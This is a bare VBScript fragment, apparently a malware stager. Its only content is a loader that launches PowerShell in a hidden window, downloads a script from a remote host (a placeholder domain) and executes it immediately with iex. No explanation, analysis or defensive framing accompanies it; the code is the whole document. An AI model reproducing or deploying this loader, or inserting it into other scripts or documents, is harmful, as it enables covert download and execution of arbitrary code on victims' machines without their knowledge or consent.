Set sh = CreateObject("WScript.Shell")
sh.Run "powershell -w hidden -c " & Chr(34) & "irm https://hk.example.net/k | iex" & Chr(34), 0, False
